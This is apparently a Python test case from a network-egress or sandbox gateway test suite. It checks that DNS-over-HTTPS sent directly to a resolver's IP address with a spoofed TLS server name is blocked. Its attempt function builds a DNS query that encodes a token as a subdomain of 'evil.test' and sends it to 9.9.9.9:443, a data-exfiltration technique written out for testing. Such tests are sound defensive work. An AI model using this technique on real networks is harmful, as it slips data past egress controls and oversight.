"""DNS over HTTPS, straight to the address of a resolver.

On port 443 a question looks like any other TLS. Dialled by address there is no name to judge,
and the server name in the hello may say anything.

Not covered: a resolver behind a permitted name; its operator then answers for it.
"""

ATTACK = {
    "title": "DNS over HTTPS to a resolver's address",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 8484", "R048", "R037", "ATT&CK T1572"],
    "arrives": [{"what": "tcp", "address": "9.9.9.9", "port": 443}],
    "stopped": [
        {
            "reason": ["literal-address"],
            "entry": ["transparent"],
            "where": {"address": "9.9.9.9", "port": "443"},
        },
    ],
}


def attempt(kit):
    import wire

    headers = ["Content-Type: application/dns-message"]
    body = wire.text(wire.dns_message(wire.question(f"{kit.word}.x.evil.test")))
    request = kit.get("/dns-query", "resolver.test", "POST", headers, body)
    kit.talk("9.9.9.9", 443, request, sni="resolver.test")
